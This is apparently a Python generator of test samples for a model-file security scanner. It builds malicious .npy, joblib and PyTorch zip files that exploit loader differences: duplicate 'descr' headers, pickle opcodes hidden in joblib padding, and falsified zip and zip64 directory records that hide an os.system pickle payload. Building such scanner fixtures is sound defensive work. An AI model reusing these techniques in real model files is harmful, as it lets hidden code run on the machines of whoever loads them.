"""Class 4 of issue 16: bytes that two real loaders read differently. The scanner must see the attacker's view.

The .npy headers follow numpy 2.4.6 lib/format.py (`_write_array_header`, read back with ast.literal_eval);
the joblib layout follows joblib 1.4 numpy_pickle.py; zip structures follow APPNOTE 6.3 and what CPython
3.11 zipfile (_EndRecData/_EndRecData64/_RealGetContents) and miniz (PyTorchFileReader) each read.
"""
import io
import os
import struct
import zipfile

from common import Call, P, dumps


def _payload():
    # The real os.system pickles as GLOBAL 'posix system' on Linux; it is referenced, never called.
    return dumps(Call(os.system, 'id'), protocol=2)


def _npy(header_dict_text, data):
    header = header_dict_text
    header += ' ' * (64 - ((10 + len(header) + 1) % 64)) + '\n'
    return b'\x93NUMPY\x01\x00' + struct.pack('<H', len(header)) + header.encode('latin1') + data


def _joblib_padding_opcodes():
    """A joblib dump whose alignment padding is pickle opcodes: joblib skips it, pickle.load runs it."""
    p = P(4)
    p.op('}').ustr('coef')
    p.glob('joblib.numpy_pickle', 'NumpyArrayWrapper').op(')').op(0x81)
    p.op('}').mark()
    p.ustr('subclass').glob('numpy', 'ndarray').ustr('shape').int_(8).tuple1().ustr('order').ustr('C')
    p.ustr('dtype').glob('numpy', 'dtype').ustr('f8').op(0x89).op(0x88).tuple3().reduce()
    p.mark().int_(3).ustr('<').op('N').op('N').op('N').raw(b'J\xff\xff\xff\xff').raw(b'J\xff\xff\xff\xff').int_(0).op('t').op('b')
    p.ustr('allow_mmap').op(0x88).ustr('numpy_array_alignment_bytes').int_(16)
    p.op('u').op('b')
    # Pad byte 0x28 is MARK for pickle.load; the 40 "pad" bytes import posix.system and call it, POP_MARK cleans up.
    body = b'\x8c\x05posix\x8c\x06system\x93\x8c\x02id\x85R'
    pad = body + b'N' * (40 - len(body) - 1) + b'1'
    p.raw(b'(' + pad)
    p.raw(b'(' + b'N' * 62 + b'1')  # the 64 "array" bytes (8 float64 values) are opcodes too
    p.op('s')
    return p.stop().done()


def _torch_zip(members):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, 'w', zipfile.ZIP_STORED) as z:
        for name, data in members:
            z.writestr(name, data)
    return bytearray(buf.getvalue())


def _zip_count_understated():
    """torch.save layout plus a last member; the end record counts one entry less than the directory holds."""
    benign = dumps({'step': 1}, protocol=2)
    b = _torch_zip([('archive/data.pkl', benign), ('archive/version', b'3\n'), ('archive/extra/data.pkl', _payload())])
    eocd = b.rfind(b'PK\x05\x06')
    struct.pack_into('<HH', b, eocd + 8, 2, 2)
    return bytes(b)


def _shift_directory(archive, cd_off, cd_size, shift):
    p = cd_off
    while p < cd_off + cd_size:
        struct.pack_into('<I', archive, p + 42, struct.unpack_from('<I', archive, p + 42)[0] + shift)
        n, x, c = struct.unpack_from('<HHH', archive, p + 28)
        p += 46 + n + x + c


def _zip64_elsewhere():
    """The 32-bit end record names a benign directory; a zip64 record (which CPython applies whenever its
    locator is present) names a second one placed right before it, as CPython's offset arithmetic requires."""
    benign = _torch_zip([('archive/data.pkl', dumps({'step': 1}, protocol=2)), ('archive/version', b'3\n')])
    evil = _torch_zip([('archive/data.pkl', _payload()), ('archive/version', b'3\n')])
    b_eocd = benign.rfind(b'PK\x05\x06')
    b_count, _, b_cd_size, b_cd_off = struct.unpack_from('<HHII', benign, b_eocd + 8)
    head = bytes(benign[:b_eocd])  # benign members + benign directory, offsets unchanged
    e_eocd = evil.rfind(b'PK\x05\x06')
    e_count, _, e_cd_size, e_cd_off = struct.unpack_from('<HHII', evil, e_eocd + 8)
    body = bytearray(evil[:e_eocd])
    _shift_directory(body, e_cd_off, e_cd_size, len(head))
    zip64_off = len(head) + len(body)
    rec = struct.pack('<IQHHIIQQQQ', 0x06064b50, 44, 45, 45, 0, 0, e_count, e_count, e_cd_size, e_cd_off + len(head))
    locator = struct.pack('<IIQI', 0x07064b50, 0, zip64_off, 1)
    eocd = struct.pack('<IHHHHIIH', 0x06054b50, 0, 0, b_count, b_count, b_cd_size, b_cd_off, 0)
    return head + bytes(body) + rec + locator + eocd


def generate(corpus):
    w = lambda f, d, rule, note: corpus.write(4, f, d, 'malicious', rule, note)  # noqa: E731
    w('npy_descr_object_word.npy', _npy("{'descr': 'object', 'fortran_order': False, 'shape': (1,), }", _payload()),
      'pickle.dangerous-global', "np.dtype('object') is the object dtype (numpy 2.4.6): np.load(allow_pickle=True) unpickles the data")
    w('npy_duplicate_descr.npy', _npy("{'descr': '<f8', 'fortran_order': False, 'shape': (1,), 'descr': '|O', }", _payload()),
      'numpy.header-differential', 'numpy reads the header with ast.literal_eval, which keeps the LAST "descr" (object); a first-match parser sees float64')
    w('joblib_padding_opcodes.joblib', _joblib_padding_opcodes(), 'pickle.loader-differential',
      'joblib 1.4 read_array skips 1 pad-length byte + padding + array bytes; pickle.load of the same file runs them as opcodes')
    w('zip_count_understated.pt', _zip_count_understated(), 'pickle.dangerous-global',
      'CPython 3.11 zipfile._RealGetContents reads until size_cd is used up; miniz (torch.load) stops at the end-record count')
    w('zip64_elsewhere.pt', _zip64_elsewhere(), 'pickle.dangerous-global',
      'CPython 3.11 zipfile._EndRecData64 applies the zip64 locator even when the 32-bit fields are not saturated')
